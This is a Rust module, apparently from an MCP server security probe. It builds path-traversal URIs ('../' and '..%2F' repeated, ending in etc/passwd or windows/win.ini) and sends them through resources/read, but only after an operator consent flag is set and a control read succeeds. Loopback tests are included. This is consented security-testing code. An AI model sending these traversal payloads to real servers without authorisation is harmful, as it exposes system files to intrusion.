//! 5.4.1a: path traversal through `resources/read`, the only attack payload this
//! collector sends, and only with the operator's consent (`traversal_authorised: true`,
//! the JSON boolean). Without it every 5.4.1a leg is recorded as skipped and nothing is
//! sent, not even the control.
//!
//! The control URI is the operator's `traversal_control_uri`, else the first resource
//! the server listed ("derived"). The control is read first (`5.4.1a.control`); only
//! when it returned contents are the traversal reads sent: the control URI, without a
//! trailing `/`, then `/`, then `../` repeated, then the target (`5.4.1a.unix`:
//! `etc/passwd`; `5.4.1a.windows`: `windows/win.ini`; `5.4.1a.encoded`: `..%2F`
//! repeated, then `etc/passwd`). The climb is the number of `/` after `://` plus two,
//! and at least [`MIN_DEPTH`]: climbing past the root is harmless (`/..` is `/`), while a
//! server may map a short URI onto a directory deep in its filesystem. Every URI is
//! built by string concatenation and sent exactly as built (a URL library would remove
//! the dot segments). A control URI with no `://`, or no `/` after it, has no path to
//! escape: nothing is sent.

use mcp_probe_schema::vocab::{family, leg, method};
use serde_json::Value;

use crate::mcp::Probe;

/// Operator input: consent to send the traversal reads (only `true` consents).
pub const INPUT_CONSENT: &str = "traversal_authorised";
/// Operator input: the control URI (else the first listed resource).
pub const INPUT_CONTROL: &str = "traversal_control_uri";
/// The least number of `../` segments of a traversal URI.
pub const MIN_DEPTH: usize = 12;
/// The Unix target.
pub const UNIX_TARGET: &str = "etc/passwd";
/// The Windows target.
pub const WINDOWS_TARGET: &str = "windows/win.ini";
/// One step up.
pub const STEP: &str = "../";
/// One step up with its `/` percent-encoded.
pub const ENCODED_STEP: &str = "..%2F";

/// The traversal URI from `control` to `target`, climbing with `step`; `None` when the
/// control has no path to escape (no `://`, an empty scheme, or no `/` after it).
pub fn traversal_uri(control: &str, step: &str, target: &str) -> Option<String> {
    let (scheme, rest) = control.split_once("://")?;
    if scheme.is_empty() || !rest.contains('/') {
        return None;
    }
    let depth = (rest.matches('/').count() + 2).max(MIN_DEPTH);
    let base = rest.strip_suffix('/').unwrap_or(rest);
    Some(format!("{scheme}://{base}/{}{target}", step.repeat(depth)))
}

impl Probe<'_> {
    /// 5.4.1a: the control read, then the traversal reads.
    pub(super) async fn traversal(&mut self) {
        let input = |k: &str| self.inputs.as_ref().and_then(|i| i.get(k)).cloned();
        if input(INPUT_CONSENT) != Some(Value::Bool(true)) {
            return self.skip(
                &family::TRAVERSAL,
                format!(
                    "not sent: {INPUT_CONSENT} is not true in the probe inputs (the path-traversal reads are an \
                     attack payload, sent only with the operator's consent)"
                ),
            );
        }
        let operator = input(INPUT_CONTROL)
            .and_then(|v| v.as_str().map(str::to_string))
            .filter(|s| !s.trim().is_empty());
        let (control, origin) = match operator {
            Some(c) => (c, "the operator's traversal_control_uri"),
            None => {
                let inv = self.recorded_inventory();
                let first = inv.resources.items.iter().find_map(|r| {
                    r.get("uri")
                        .and_then(Value::as_str)
                        .filter(|u| !u.trim().is_empty())
                        .map(str::to_string)
                });
                match first {
                    Some(c) => (c, "derived from the first listed resource"),
                    None => {
                        return self.skip(
                            &family::TRAVERSAL,
                            format!(
                                "not sent: no {INPUT_CONTROL} in the probe inputs and no listed resource to derive a \
                                 control from"
                            ),
                        )
                    }
                }
            }
        };
        let targets = [
            (leg::TRAVERSAL_UNIX, STEP, UNIX_TARGET),
            (leg::TRAVERSAL_WINDOWS, STEP, WINDOWS_TARGET),
            (leg::TRAVERSAL_ENCODED, ENCODED_STEP, UNIX_TARGET),
        ];
        let Some(uris) = targets
            .iter()
            .map(|(l, step, target)| traversal_uri(&control, step, target).map(|u| (*l, u)))
            .collect::<Option<Vec<_>>>()
        else {
            return self.skip(
                &family::TRAVERSAL,
                format!(
                    "not sent: the control URI {control:?} ({origin}) has no path to escape (no `://`, or no `/` \
                     after it)"
                ),
            );
        };
        if !self
            .control_read(
                leg::TRAVERSAL_CONTROL,
                &control,
                &format!("read of {control:?} ({origin})"),
                &family::TRAVERSAL[1..],
            )
            .await
        {
            return;
        }
        for (l, uri) in uris {
            self.named_rpc(&[l], method::RESOURCES_READ, super::read_params(&uri), &uri)
                .await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mcp_probe_schema::model::{Era, Observation, Record};
    use serde_json::json;

    #[test]
    fn traversal_uris_keep_their_dot_segments() {
        let u = traversal_uri("file:///docs/readme.txt", STEP, UNIX_TARGET).expect("uri");
        assert_eq!(
            u,
            format!(
                "file:///docs/readme.txt/{}etc/passwd",
                "../".repeat(MIN_DEPTH)
            )
        );
        // Deeper than the minimum: slashes after :// plus two.
        let deep = format!("x://{}", "d/".repeat(14));
        let u = traversal_uri(&deep, STEP, WINDOWS_TARGET).expect("uri");
        assert_eq!(
            u,
            format!(
                "x://{}/{}windows/win.ini",
                "d/".repeat(14).trim_end_matches('/'),
                "../".repeat(16)
            )
        );
        let u = traversal_uri("files://root/a", ENCODED_STEP, UNIX_TARGET).expect("uri");
        assert!(u.starts_with("files://root/a/..%2F..%2F"), "{u}");
        for none in ["info://server", "no-scheme/a/b", "://a/b"] {
            assert_eq!(traversal_uri(none, STEP, UNIX_TARGET), None, "{none}");
        }
    }

    fn run_leg(inputs: Option<Value>, resources: Value) -> Vec<Record> {
        let dir = tempfile::tempdir().expect("tempdir");
        let client = crate::legs::fixture::client();
        let j = crate::legs::fixture::journal(dir.path(), "http://127.0.0.1:1/mcp");
        let body =
            json!({"jsonrpc": "2.0", "id": 1, "result": {"resources": resources}}).to_string();
        let r = mcp_probe_schema::testkit::http_record(
            &[leg::INVENTORY_RESOURCES],
            "http://127.0.0.1:1/mcp",
            r#"{"jsonrpc":"2.0","id":1,"method":"resources/list"}"#,
            200,
            body.as_bytes(),
        );
        crate::journal::lock(&j).record(&[leg::INVENTORY_RESOURCES], 0, 0, r.observation);
        let mut p = crate::legs::fixture::probe(&client, j.clone(), "2025-11-25", inputs);
        crate::legs::fixture::block_on(p.traversal());
        let recs = j.lock().expect("journal").records();
        recs.into_iter().skip(1).collect()
    }

    fn skipped(r: &Record) -> &str {
        match &r.observation {
            Observation::Skipped { reason } => reason,
            o => panic!("{o:?}"),
        }
    }

    #[test]
    fn without_consent_nothing_is_sent() {
        let listed = json!([{"uri": "file:///docs/a.txt", "name": "a"}]);
        for inputs in [
            None,
            Some(json!({INPUT_CONSENT: false})),
            Some(json!({INPUT_CONSENT: "true", INPUT_CONTROL: "file:///x/y"})),
        ] {
            let recs = run_leg(inputs, listed.clone());
            assert_eq!(recs.len(), 1, "{recs:?}");
            assert_eq!(recs[0].legs.len(), 4);
            assert!(skipped(&recs[0]).contains("operator's consent"));
        }
    }

    #[test]
    fn a_control_without_a_path_sends_nothing() {
        let recs = run_leg(
            Some(json!({INPUT_CONSENT: true})),
            json!([{"uri": "info://server", "name": "i"}]),
        );
        assert_eq!(recs.len(), 1);
        assert!(skipped(&recs[0])
            .contains("\"info://server\" (derived from the first listed resource) has no path"));
        let recs = run_leg(Some(json!({INPUT_CONSENT: true})), json!([]));
        assert!(skipped(&recs[0]).contains("no listed resource"));
    }

    #[test]
    fn the_control_goes_first_and_gates_the_payload() {
        let recs = run_leg(
            Some(json!({INPUT_CONSENT: true, INPUT_CONTROL: "file:///srv/a.txt"})),
            json!([]),
        );
        // Nobody listens on port 1: the control fails, so the traversal is not sent.
        assert_eq!(recs.len(), 2, "{recs:?}");
        assert_eq!(recs[0].legs, vec![leg::TRAVERSAL_CONTROL.to_string()]);
        let Observation::Http(x) = &recs[0].observation else {
            panic!()
        };
        let b: Value = serde_json::from_slice(&x.request.body.bytes).expect("json");
        assert_eq!(b["params"]["uri"], json!("file:///srv/a.txt"));
        assert_eq!(recs[1].legs.len(), 3);
        assert!(skipped(&recs[1]).contains("the operator's traversal_control_uri"));
    }

    /// A loopback server answering every JSON-RPC request with one text content, keeping
    /// the raw bytes of each request it received.
    fn contents_server() -> (String, std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>) {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let url = format!("http://{}/mcp", listener.local_addr().expect("addr"));
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = seen.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                serve(conn, &kept);
            }
        });
        (url, seen)
    }

    /// Answer the requests of one connection until it closes.
    fn serve(mut conn: std::net::TcpStream, kept: &std::sync::Mutex<Vec<Vec<u8>>>) {
        use std::io::{BufRead, BufReader, Read, Write};
        let mut reader = BufReader::new(conn.try_clone().expect("clone"));
        loop {
            let mut head = Vec::new();
            let mut length = 0;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    return;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
                head.extend_from_slice(line.as_bytes());
                if line == "\r\n" {
                    break;
                }
            }
            let mut body = vec![0; length];
            reader.read_exact(&mut body).expect("body");
            let id = serde_json::from_slice::<Value>(&body)
                .ok()
                .and_then(|b| b.get("id").cloned());
            head.extend_from_slice(&body);
            kept.lock().expect("kept").push(head);
            let answer = json!({"jsonrpc": "2.0", "id": id, "result": {"contents": [{"uri": "x", "text": "hello"}]}})
                .to_string();
            let reply = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{answer}",
                answer.len()
            );
            if conn.write_all(reply.as_bytes()).is_err() {
                return;
            }
        }
    }

    #[test]
    fn every_dot_segment_reaches_the_wire() {
        let (url, seen) = contents_server();
        let dir = tempfile::tempdir().expect("tempdir");
        let client = crate::legs::fixture::client();
        let j = crate::legs::fixture::journal(dir.path(), &url);
        let mut p = Probe::new(&client, j.clone(), None, 1);
        p.endpoint = Some(url::Url::parse(&url).expect("url"));
        p.era = Some(Era::Legacy);
        p.revision = Some("2025-11-25".into());
        p.inputs = Some(json!({INPUT_CONSENT: true, INPUT_CONTROL: "file:///docs/a.txt"}));
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        rt.block_on(p.traversal());
        let seen = seen.lock().expect("seen").clone();
        assert_eq!(seen.len(), 4, "control and three traversal reads");
        let wire: Vec<String> = seen
            .iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect();
        assert!(
            wire[0].contains(r#""uri":"file:///docs/a.txt""#),
            "{}",
            wire[0]
        );
        let up = format!("file:///docs/a.txt/{}etc/passwd", "../".repeat(MIN_DEPTH));
        assert!(wire[1].contains(&up), "{}", wire[1]);
        assert!(wire[2].contains("/../../windows/win.ini"), "{}", wire[2]);
        assert!(
            wire[3].contains("file:///docs/a.txt/..%2F..%2F"),
            "{}",
            wire[3]
        );
        // The journal holds the same bytes, under the leg of each read.
        let recs = j.lock().expect("journal").records();
        let legs: Vec<&str> = recs.iter().map(|r| r.legs[0].as_str()).collect();
        assert_eq!(
            legs,
            [
                "5.4.1a.control",
                "5.4.1a.unix",
                "5.4.1a.windows",
                "5.4.1a.encoded"
            ]
        );
        let Observation::Http(x) = &recs[1].observation else {
            panic!()
        };
        assert!(String::from_utf8_lossy(&x.request.body.bytes).contains(&up));
    }
}
